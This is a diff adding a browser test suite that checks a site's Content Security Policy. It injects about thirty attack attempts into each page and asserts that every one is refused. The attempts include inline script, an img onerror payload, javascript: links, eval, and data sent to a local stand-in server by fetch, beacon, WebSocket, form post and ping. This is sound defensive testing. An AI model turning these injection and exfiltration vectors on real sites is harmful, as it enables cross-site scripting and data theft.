@@ -1,0 +1,224 @@
+import { once } from 'node:events';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { PAGES } from './routes.ts';
+import { PREVIEW } from './servers.ts';
+import { expect, test } from './test.ts';
+
+/**
+ * What somebody would try who had got a foot into a page: run a script, change its looks, carry
+ * something out, bring something in. The browser refuses each, and nothing arrives anywhere.
+ */
+
+test.skip(
+  ({ browserName, isMobile }) => browserName !== 'chromium' || isMobile,
+  'The width has no part in it, and other browsers name the refusals otherwise.',
+);
+
+/** A line to run in the page, where `there` is a server elsewhere, and the directives that refuse it. */
+const ATTEMPTS: [what: string, refusedBy: RegExp, attempt: string][] = [
+  [
+    'an inline script',
+    /^(script-src|require-trusted)/,
+    `const script = document.createElement('script');
+    script.append('window.brokeOut = 1'); document.body.append(script)`,
+  ],
+  [
+    'a script of markup',
+    /^require-trusted/,
+    `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.brokeOut = 1">')`,
+  ],
+  [
+    'a script from elsewhere',
+    /^(script-src|require-trusted)/,
+    `const script = document.createElement('script');
+    script.src = there + '/script.js'; document.body.append(script)`,
+  ],
+  ['a module from elsewhere', /^script-src/, `import(there + '/module.js').catch(() => {})`],
+  [
+    'an event handler',
+    /^(script-src|require-trusted)/,
+    `const line = document.createElement('p');
+    line.setAttribute('onclick', 'window.brokeOut = 1'); document.body.append(line); line.click()`,
+  ],
+  [
+    'a javascript: address',
+    /^(script-src|require-trusted)/,
+    `const link = document.createElement('a');
+    link.href = 'javascript:void (window.brokeOut = 1)'; document.body.append(link); link.click()`,
+  ],
+  ['text run as a script', /^(script-src|require-trusted)/, `setTimeout('window.brokeOut = 1')`],
+  ['eval', /^(script-src|require-trusted)/, `setTimeout(() => eval('window.brokeOut = 1'))`],
+  ['a worker', /^(worker-src|require-trusted)/, `new Worker('/_astro/worker.js')`],
+  [
+    'other rules for the next page',
+    /^(script-src|require-trusted)/,
+    `const rules = document.createElement('script');
+    rules.type = 'speculationrules';
+    rules.append(JSON.stringify({ prefetch: [{ urls: [there + '/next'] }] })); document.body.append(rules)`,
+  ],
+  [
+    'a policy for trusted text',
+    /^trusted-types/,
+    `trustedTypes.createPolicy('own', { createHTML: (text) => text })`,
+  ],
+  [
+    'a style element',
+    /^style-src/,
+    `const style = document.createElement('style');
+    style.append('body { display: none }'); document.head.append(style)`,
+  ],
+  ['a style attribute', /^style-src/, `document.body.setAttribute('style', 'display: none')`],
+  [
+    'a style sheet from elsewhere',
+    /^style-src/,
+    `const sheet = document.createElement('link');
+    sheet.rel = 'stylesheet'; sheet.href = there + '/style.css'; document.head.append(sheet)`,
+  ],
+  [
+    'a form that posts',
+    /^form-action/,
+    `const form = document.createElement('form');
+    form.method = 'post'; form.action = there + '/form'; document.body.append(form); form.submit()`,
+  ],
+  [
+    'a form that posts to the site',
+    /^form-action/,
+    `const form = document.createElement('form');
+    form.method = 'post'; form.action = '/collect'; document.body.append(form); form.submit()`,
+  ],
+  ['fetch', /^connect-src/, `fetch(there + '/fetch').catch(() => {})`],
+  ['fetch from the site', /^connect-src/, `fetch('/collect').catch(() => {})`],
+  [
+    'XMLHttpRequest',
+    /^connect-src/,
+    `const asked = new XMLHttpRequest();
+    asked.open('POST', there + '/xhr'); asked.send('text')`,
+  ],
+  ['a socket', /^connect-src/, `new WebSocket(there.replace('http', 'ws'))`],
+  ['a beacon', /^connect-src/, `navigator.sendBeacon(there + '/beacon', 'text')`],
+  ['an event source', /^connect-src/, `new EventSource(there + '/events')`],
+  [
+    'a ping',
+    /^connect-src/,
+    `const link = document.createElement('a');
+    link.href = '#main'; link.ping = there + '/ping'; document.body.append(link); link.click()`,
+  ],
+  [
+    'a frame',
+    /^frame-src/,
+    `const frame = document.createElement('iframe');
+    frame.src = there + '/frame'; document.body.append(frame)`,
+  ],
+  [
+    'an object',
+    /^(object-src|require-trusted)/,
+    `const object = document.createElement('object');
+    object.data = there + '/object.svg'; document.body.append(object)`,
+  ],
+  [
+    'an embedded file',
+    /^(object-src|require-trusted)/,
+    `const embed = document.createElement('embed');
+    embed.src = there + '/embed.svg'; document.body.append(embed)`,
+  ],
+  [
+    'another base',
+    /^base-uri/,
+    `const base = document.createElement('base');
+    base.href = there; document.head.append(base)`,
+  ],
+  ['a picture from elsewhere', /^img-src/, `new Image().src = there + '/picture.png'`],
+  [
+    'a picture inside the text',
+    /^img-src/,
+    `new Image().src = 'data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA='`,
+  ],
+  [
+    'a film',
+    /^media-src/,
+    `const film = document.createElement('video');
+    film.src = there + '/film.mp4'; document.body.append(film)`,
+  ],
+  [
+    'a font from elsewhere',
+    /^font-src/,
+    `const face = new FontFace('there', 'url(' + there + '/font.woff2)');
+    face.load().catch(() => {})`,
+  ],
+];
+
+const arrived: string[] = [];
+let elsewhere: Server;
+let there: string;
+
+test.beforeAll(async () => {
+  elsewhere = createServer(({ url = '' }, response) => {
+    arrived.push(url);
+    response.setHeader('Content-Type', 'text/html');
+    response.end(
+      `<!doctype html><title>Elsewhere</title><iframe src="${PREVIEW.url}/about"></iframe>`,
+    );
+  }).listen(0, 'localhost');
+  await once(elsewhere, 'listening');
+  there = `http://localhost:${(elsewhere.address() as AddressInfo).port}`;
+});
+test.beforeEach(() => {
+  arrived.length = 0;
+});
+test.afterAll(() => {
+  elsewhere.close();
+});
+
+for (const { route, name } of [...PAGES, { route: '/nowhere', name: 'The lost page' }]) {
+  test(`${name} lets nothing out, and nobody in`, async ({ page, complaints, allowConsole }) => {
+    // What is refused is told as an error, and some of it as a request that failed.
+    allowConsole(
+      /^policy breach/,
+      /^console error/,
+      /^exception/,
+      /^(failed|request).* http:\/\/localhost/,
+      'ws://',
+    );
+    allowConsole('status 404');
+    const collected: string[] = [];
+    page.on('response', (response) => {
+      if (response.url().includes('/collect')) collected.push(response.url());
+    });
+    await page.goto(route);
+    const before = await page.locator('body *').count();
+
+    const unrefused: string[] = [];
+    for (const [what, refusedBy, attempt] of ATTEMPTS) {
+      const told = complaints.length;
+      // Some throw when they are refused; that is as well.
+      await page.evaluate(`(() => { const there = '${there}'; try { ${attempt} } catch {} })()`);
+      const refused = () =>
+        complaints.slice(told).some((one) => refusedBy.test(one.replace('policy breach: ', '')));
+      await expect
+        .poll(refused, { timeout: 2000 })
+        .toBe(true)
+        .catch(() => unrefused.push(what));
+    }
+
+    expect(unrefused).toEqual([]);
+    expect(arrived).toEqual([]);
+    expect(collected).toEqual([]);
+    expect(await page.evaluate('window.brokeOut')).toBeUndefined();
+    await expect(page.locator('body')).toBeVisible();
+    expect(new URL(page.url()).pathname).toBe(route);
+    expect(before).toBeGreaterThan(50);
+  });
+}
+
+test('no other site may show a page of this one in a frame', async ({ page, allowConsole }) => {
+  allowConsole(
+    /^console error.*(frame-ancestors|X-Frame-Options)/,
+    /^request that leaves/,
+    /^failed request/,
+  );
+  await page.goto(there);
+  expect(arrived).toContain('/');
+  const frame = page.frames().find((one) => one !== page.mainFrame());
+  await expect.poll(() => frame?.url()).toMatch(/^chrome-error:/);
+});
